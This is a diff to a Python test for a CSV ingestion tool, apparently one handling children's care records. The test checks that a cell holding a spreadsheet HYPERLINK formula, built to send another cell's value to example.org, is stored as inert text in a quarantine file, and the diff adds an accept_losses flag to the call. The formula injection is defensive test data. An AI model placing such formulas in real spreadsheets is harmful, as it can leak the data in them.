@@ -185,7 +185,7 @@ def test_a_formula_in_a_raw_cell_reaches_the_quarantine_as_text(tmp_path):
 
     path = tmp_path / "header.csv"
     path.write_text('CHILD,SEX,DOB,ETHNIC\n1,"=HYPERLINK(""http://example.org/?""&A1,""x"")",31/01/2010,WBRI\n')
-    ingest_files("ssda903-csv", [path], tmp_path / "out", key=b"a test key of 24 bytes..", la="LA1")
+    ingest_files("ssda903-csv", [path], tmp_path / "out", key=b"a test key of 24 bytes..", la="LA1", accept_losses=True)
     quarantine = pd.read_csv(tmp_path / "out" / "quarantine.csv", dtype=str)
     # opened in a spreadsheet, the analyst sees the text: the leading apostrophe stops it running
     assert quarantine["value"].tolist() == ["'=HYPERLINK(\"http://example.org/?\"&A1,\"x\")"]
